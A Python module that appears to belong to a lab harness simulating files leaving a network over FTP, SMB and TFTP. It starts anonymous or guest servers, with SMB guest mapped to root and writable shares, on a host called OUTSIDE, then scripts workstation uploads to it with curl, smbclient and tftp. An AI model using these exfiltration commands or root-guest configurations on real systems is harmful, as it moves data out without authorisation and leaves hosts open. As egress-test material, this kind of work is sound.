"""Files that leave by file transfer and file sharing."""

import os
import time

from doors import INSIDE, OUTSIDE, door


@door("ftp", "vsftpd", "curl")
def ftp(stage):
    home = stage.path("ftp", "in", "x")[:-1]
    os.chmod(home, 0o777)
    os.chmod(os.path.dirname(home.rstrip("/")), 0o755)
    empty = stage.path("ftp-empty", "x")[:-1]
    conf = stage.write("vsftpd.conf", f"""listen=YES
anonymous_enable=YES
anon_root={os.path.dirname(home.rstrip("/"))}
write_enable=YES
anon_upload_enable=YES
anon_other_write_enable=YES
anon_umask=022
no_anon_password=YES
secure_chroot_dir={empty}
background=NO
seccomp_sandbox=NO
isolate_network=NO
connect_from_port_20=YES
allow_writeable_chroot=YES
xferlog_enable=NO
""")
    stage.serve("outside", 21, "vsftpd", conf)
    files = stage.files("ftp")
    for i, path in enumerate(files):
        more = [[], ["--disable-epsv"], ["-P", "-"], ["-P", "-", "--disable-eprt"]][i % 4]
        stage.tell("workstation", "curl", "-sSf", *more, "-T", path, f"ftp://{OUTSIDE}/in/{i}.bin")
    return files


@door("smb", "smbd", "smbclient")
def smb(stage):
    share = stage.path("smb", "share", "x")[:-1]
    os.chmod(share, 0o777)
    state = stage.path("smb", "state", "x")[:-1]
    conf = stage.write("smb.conf", f"""[global]
 workgroup = W
 server role = standalone server
 map to guest = Bad User
 guest account = root
 private dir = {state}
 lock directory = {state}
 state directory = {state}
 cache directory = {state}
 pid directory = {state}
 ncalrpc dir = {state}
 log file = {state}log
 disable netbios = yes
 smb ports = 445
 server min protocol = SMB2_02
[docs]
 path = {share}
 guest ok = yes
 writable = yes
 force user = root
""")
    stage.serve("outside", 445, "smbd", "-F", "--no-process-group", "-s", conf, "--debug-stdout")
    files = stage.files("smb")
    for i in range(0, len(files), 10):
        puts = "; ".join(f'put "{path}" "d{k} {k}.bin"' for k, path in enumerate(files[i:i + 10], i))
        level = ["SMB3", "SMB2", "SMB3_11"][i // 10 % 3]
        stage.tell("workstation", "smbclient", f"//{OUTSIDE}/docs", "-N", "-m", level, "-s", conf, "-c", puts)
    return files


@door("smb-read", "smbd", "smbclient")
def smb_read(stage):
    files = stage.files("smb-read")
    os.chmod(os.path.join(stage.folder, "smb-read"), 0o755)
    state = stage.path("smb-in", "state", "x")[:-1]
    conf = stage.write("smb-in.conf", f"""[global]
 server role = standalone server
 map to guest = Bad User
 guest account = root
 private dir = {state}
 lock directory = {state}
 state directory = {state}
 cache directory = {state}
 pid directory = {state}
 ncalrpc dir = {state}
 log file = {state}log
 disable netbios = yes
 smb ports = 445
[docs]
 path = {stage.folder}/smb-read
 guest ok = yes
 force user = root
""")
    stage.serve("web", 445, "smbd", "-F", "--no-process-group", "-s", conf, "--debug-stdout")
    got = stage.path("smb-got", "x")
    for i in range(0, len(files), 10):
        gets = "; ".join(f'get "{os.path.basename(path)}" "{got}"' for path in files[i:i + 10])
        stage.tell("outside", "smbclient", f"//{INSIDE}/docs", "-N", "-m", ["SMB3", "SMB2"][i // 10 % 2], "-s", conf,
                   "-c", gets)
    return files


@door("tftp", "in.tftpd", "tftp", "curl")
def tftp(stage):
    folder = stage.path("tftp-in", "x")[:-1]
    os.chmod(folder, 0o777)
    stage.serve("outside", None, "in.tftpd", "-L", "-c", "-p", "-u", "root", "-s", "-a", f"{OUTSIDE}:69", folder)
    time.sleep(0.3)
    files = stage.files("tftp")
    for i, path in enumerate(files):
        if i % 2:
            stage.tell("workstation", "curl", "-sSf", "--tftp-blksize", "1400", "-T", path, f"tftp://{OUTSIDE}/{i}.bin")
        else:
            stage.tell("workstation", "tftp", OUTSIDE, "-m", "binary", "-c", "put", path, f"{i}.bin")
    return files
